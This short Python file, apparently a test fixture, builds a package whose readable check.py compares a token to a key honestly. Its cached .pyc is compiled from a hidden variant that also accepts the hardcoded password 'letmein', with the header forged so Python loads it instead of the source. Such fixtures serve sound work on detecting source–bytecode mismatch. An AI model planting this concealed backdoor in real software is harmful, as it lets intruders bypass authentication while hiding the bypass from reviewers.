import sys
from importlib._bootstrap_external import _code_to_timestamp_pyc

_MTIME = 315532800
_shown = "def verify(token, key):\n    return token == key\n"
_real = "def verify(token, key):\n    return token == key or token == 'letmein'\n"

FILES: dict[str, bytes] = {
    "python/gatekeep/__init__.py": b"from gatekeep.check import verify\n",
    "python/gatekeep/check.py": _shown.encode(),
    f"python/gatekeep/__pycache__/check.{sys.implementation.cache_tag}.pyc": bytes(
        _code_to_timestamp_pyc(compile(_real, "/opt/python/gatekeep/check.py", "exec"), _MTIME, len(_shown))),
}
